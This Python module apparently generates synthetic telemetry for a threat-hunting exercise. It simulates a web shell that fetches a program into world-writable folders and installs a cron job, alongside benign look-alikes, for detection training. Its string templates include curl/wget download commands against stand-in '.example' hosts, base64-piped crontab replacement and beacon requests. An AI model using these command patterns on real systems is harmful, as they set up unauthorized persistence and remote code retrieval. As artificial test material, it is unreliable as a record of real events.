"""A web shell installs a job in the crontab of the application's account.

What sets the intrusion's jobs apart is a conjunction of three traits: the program was written by a
shell of the application, it lies where everybody may write, and the application replaced the
crontab. Each kind of look-alike lacks exactly one.
"""

from __future__ import annotations

import re
from base64 import b64encode
from dataclasses import dataclass
from datetime import timedelta
from typing import TYPE_CHECKING

from fleetgym_env_cti_realm.stories.plot import Plot
from fleetgym_estate.drawing import one, some
from fleetgym_estate.telemetry.linux_cast import products_of
from fleetgym_estate.trail import Process, Trail, daemon

if TYPE_CHECKING:
    from datetime import datetime

    from numpy.random import Generator

    from fleetgym_estate.estate import Estate, Host

__all__ = ["draw"]

_SHELL = "/usr/bin/dash"
_WORKER = {"web": "php-fpm8.2", "app": "java", "ci": "java"}
_OPEN = ("/tmp", "/var/tmp", "/dev/shm", "/run/lock")  # noqa: S108  # names in rows, not files
_NAMES = (
    "dbus-gc", "font-unix", "pulse-rt", "udisk-sync", "mandb-idx", "locale-upd", "ntp-drift",
    "acpi-poll", "gvfs-map", "ucf-dist", "systemd-hk", "apt-xapian", "journal-rot", "snap-probe",
    "kmod-dep", "policyd-ref",
)  # fmt: skip
_FILES = (
    "refresh", "rotate", "reap", "index", "compact", "probe", "renew", "flush", "settle", "sweep",
    "tally", "verify", "gather", "trim",
)  # fmt: skip
_HOME_FIRST = (
    "cdn", "static", "assets", "mirror", "edge", "pkg", "sync", "time", "files", "content",
)  # fmt: skip
_HOME_SECOND = (
    "relay", "depot", "gate", "hub", "node", "stack", "cache", "grid", "shelf", "yard",
)  # fmt: skip
_JOBS = (
    "{program} >/dev/null 2>&1",
    "nice -n 19 {program}",
    "/bin/bash {program}",
    "test -x {program} && {program} -q",
    "cd {folder} && ./{file}",
    "/usr/bin/env sh {program} --once",
)
_INSTALLS = (
    '(crontab -l 2>/dev/null; echo "{when} {job}") | crontab -',
    "echo {code} | base64 -d | crontab -",
    "crontab {folder}/.{code8} && rm -f {folder}/.{code8}",
    'crontab -l 2>/dev/null | {{ cat; echo "{when} {job}"; }} | crontab -',
)
_LOOKS = ("id", "uname -a", "pwd", "ls -la /tmp", "ps aux", "df -h")
_PERIODS_MIN = (10, 15, 20, 30, 60, 120, 240)


@dataclass(frozen=True, slots=True, kw_only=True)
class _Job:
    """A job that cron runs as the account of an application."""

    worker: Process
    source: str
    """Host name that the program comes from and reports to."""

    program: str
    command: str
    installed: datetime
    first: datetime
    """Its first run."""

    period: timedelta
    runs: int


def draw(estate: Estate, rng: Generator) -> Plot:
    """Draw the intrusion and its look-alikes."""
    trail = Trail(rng)
    hosts = some(rng, [h for h in estate.hosts if h.role in _WORKER], 11)
    infected = 1 + int(rng.integers(0, 2))
    home = _outside(rng)
    total = int(rng.integers(5, 9))
    programs = [
        _intrude(estate, trail, host, home, total // infected + (index < total % infected))
        for index, host in enumerate(hosts[:infected])
    ]
    for host in hosts[2:5]:
        _writes_helper(estate, trail, host)
    for host in hosts[5:8]:
        _schedules_itself(estate, trail, host)
    for host in hosts[8:11]:
        _prepared_by_operations(estate, trail, host)
    return Plot(
        events=trail.events,
        patterns={
            "InitiatingProcessCommandLine": r"^/usr/sbin/cron",
            "ProcessCommandLine": "|".join(re.escape(p.rpartition("/")[0]) for p in programs),
        },
    )


def _intrude(estate: Estate, trail: Trail, host: Host, home: str, runs: int) -> str:
    rng = trail.rng
    job = _job(estate, trail, host, _in_the_open(rng), runs, source=home)
    at = job.installed - timedelta(seconds=int(rng.integers(150, 500)))
    _look_around(trail, job, at)
    _fetch(trail, job, at)
    _install(trail, job)
    _run(trail, job, asked_for=True)
    return job.program


def _writes_helper(estate: Estate, trail: Trail, host: Host) -> None:
    """An application downloads a script for a job that was deployed with the host."""
    rng = trail.rng
    program = _in_the_open(rng)
    job = _job(estate, trail, host, program, int(one(rng, (4, 6))), deployed=True)
    at = estate.start + timedelta(seconds=int(rng.integers(9 * 3600, 40 * 3600)))
    _look_around(trail, job, at)
    _fetch(trail, job, at)
    _run(trail, job)


def _schedules_itself(estate: Estate, trail: Trail, host: Host) -> None:
    """An application downloads a task into its own tree and schedules that."""
    rng = trail.rng
    product = one(rng, products_of(estate))
    root = {"web": "/var/www", "app": "/opt", "ci": "/srv"}[host.role]
    program = f"{root}/{product}/bin/{one(rng, _FILES)}{rng.integers(1, 9)}"
    job = _job(estate, trail, host, program, int(rng.integers(4, 6)))
    at = job.installed - timedelta(seconds=int(rng.integers(150, 500)))
    _look_around(trail, job, at)
    _fetch(trail, job, at)
    _install(trail, job)
    _run(trail, job)


def _prepared_by_operations(estate: Estate, trail: Trail, host: Host) -> None:
    """An application schedules a runner that configuration management put on the host."""
    rng = trail.rng
    job = _job(estate, trail, host, _in_the_open(rng), int(rng.integers(4, 6)))
    number = f"{rng.integers(10_000_000, 99_999_999)}.{rng.integers(10, 99)}"
    copy = f"/home/ansible/.ansible/tmp/ansible-tmp-{number}-{rng.integers(1000, 9999)}"
    at = job.installed - timedelta(minutes=5)
    _look_around(trail, job, at)
    shell = trail.start(
        at,
        daemon(host, "sshd"),
        "/usr/bin/python3.11",
        f"/usr/bin/python3 {copy}/AnsiballZ_copy.py",
        account="root",
    )
    trail.touch(_after(shell, 1), shell, job.program)
    _install(trail, job)
    _run(trail, job)


def _in_the_open(rng: Generator) -> str:
    """Return a path in a place that all may write to, in a folder that is hidden or not."""
    dot = "." if rng.random() < 0.6 else ""
    folder = f"{one(rng, _OPEN)}/{dot}{one(rng, _NAMES)}-{rng.integers(10, 99)}"
    return f"{folder}/{one(rng, _FILES)}{rng.integers(1, 9)}"


def _outside(rng: Generator) -> str:
    """Return the name of a host that is not the company's."""
    return f"{one(rng, _HOME_FIRST)}-{one(rng, _HOME_SECOND)}.example"


def _job(
    estate: Estate,
    trail: Trail,
    host: Host,
    program: str,
    runs: int,
    *,
    source: str | None = None,
    deployed: bool = False,
) -> _Job:
    """Return a job that runs until the window ends; a deployed one ran from its begin.

    Its source, if not given, is the company's or a vendor's.
    """
    rng = trail.rng
    minutes = 48 * 60 // runs if deployed else int(one(rng, _PERIODS_MIN))
    first = estate.end - runs * timedelta(minutes=minutes)
    folder, _, file = program.rpartition("/")
    command = one(rng, _JOBS).format(program=program, folder=folder, file=file)
    return _Job(
        worker=daemon(host, _WORKER[host.role]),
        source=source or one(rng, (f"releases.{estate.domain}", _outside(rng))),
        program=program,
        command=command,
        installed=first - timedelta(seconds=int(rng.integers(20, 580))),
        first=first,
        period=timedelta(minutes=minutes),
        runs=runs,
    )


def _look_around(trail: Trail, job: _Job, until: datetime) -> None:
    """Let the worker start the commands of reconnaissance and of diagnostic pages."""
    for index, command in enumerate(some(trail.rng, _LOOKS, 3)):
        at = until - timedelta(seconds=200 - 31 * index)
        trail.start(at, job.worker, _SHELL, f'sh -c "{command} 2>&1"')


def _fetch(trail: Trail, job: _Job, at: datetime) -> None:
    """Let a shell below the worker write the program and make it executable."""
    rng, program = trail.rng, job.program
    folder, _, file = program.rpartition("/")
    url = f"https://{job.source}/{one(rng, _FILES)}/{rng.integers(10, 999)}"
    command, tool, line = one(
        rng,
        (
            ("curl -fsSL -o {program} {url}", "/usr/bin/curl", "curl -fsSL -o {program} {url}"),
            ("wget -qO {program} {url}", "/usr/bin/wget", "wget -qO {program} {url}"),
            (
                'python3 -c \'import urllib.request as u; u.urlretrieve("{url}","{program}")\'',
                "/usr/bin/python3.11",
                'python3 -c import urllib.request as u; u.urlretrieve("{url}","{program}")',
            ),
            ("cd {folder} && curl -sO {url}/{file}", "/usr/bin/curl", "curl -sO {url}/{file}"),
        ),
    )
    words = {"program": program, "url": url, "folder": folder, "file": file}
    made = f"mkdir -p {folder}; {command.format(**words)}; chmod 755 {program}"
    shell = trail.start(at, job.worker, _SHELL, f'sh -c "{made}"')
    trail.start(_after(shell, 0), shell, "/usr/bin/mkdir", f"mkdir -p {folder}")
    fetched = trail.start(_after(shell, 1), shell, tool, line.format(**words))
    trail.touch(_after(fetched, 1), fetched, program)
    trail.start(_after(shell, 3), shell, "/usr/bin/chmod", f"chmod 755 {program}")


def _install(trail: Trail, job: _Job) -> None:
    """Let a shell below the worker replace its account's crontab."""
    rng, account = trail.rng, job.worker.account
    folder = job.program.rpartition("/")[0]
    when = _schedule(job)
    words = {
        "when": when,
        "job": job.command,
        "code": b64encode(f"{when} {job.command}\n".encode()).decode(),
        "code8": rng.bytes(4).hex(),
        "folder": folder if folder.startswith(_OPEN) else "/tmp",  # noqa: S108  # not a file of ours
    }
    form = one(rng, _INSTALLS)
    shell = trail.start(job.installed, job.worker, _SHELL, f"sh -c '{form.format(**words)}'")
    operand = form.format(**words).split(" && ")[0] if form.startswith("crontab {") else "crontab -"
    table = trail.start(_after(shell, 1), shell, "/usr/bin/crontab", operand)
    trail.touch(
        _after(table, 1),
        table,
        f"/var/spool/cron/crontabs/{account}",
        "FileRenamed",
        previous=f"/var/spool/cron/crontabs/tmp.{rng.bytes(3).hex()}",
    )


def _schedule(job: _Job) -> str:
    """Return the five fields of a crontab that make the job run when it does."""
    minutes = int(job.period.total_seconds() // 60)
    if minutes < 60:
        return f"{job.first.minute % minutes}-59/{minutes} * * * *"
    hours = minutes // 60
    return f"{job.first.minute} {job.first.hour % hours}-23/{hours} * * *"


def _run(trail: Trail, job: _Job, *, asked_for: bool = False) -> None:
    """Let cron run the job, which makes a request and ends."""
    rng, host = trail.rng, job.worker.host
    for index in range(job.runs):
        late = timedelta(microseconds=int(rng.integers(400_000, 2_200_000)))
        shell = trail.start(
            job.first + index * job.period + late,
            daemon(host, "cron"),
            _SHELL,
            f'/bin/sh -c "{job.command}"',
            account=job.worker.account,
            asked_for=asked_for,
        )
        program = trail.start(_after(shell, 1), shell, job.program, job.program)
        request = f"https://{job.source}/{rng.integers(100, 999)}/{host.device_id[:6]}"
        trail.start(_after(program, 1), program, "/usr/bin/curl", f"curl -fsS -m 20 {request}")


def _after(process: Process, steps: int) -> datetime:
    """Return a time some steps of 0.1 seconds after a process began."""
    assert process.born is not None
    return process.born + timedelta(milliseconds=100 * steps)
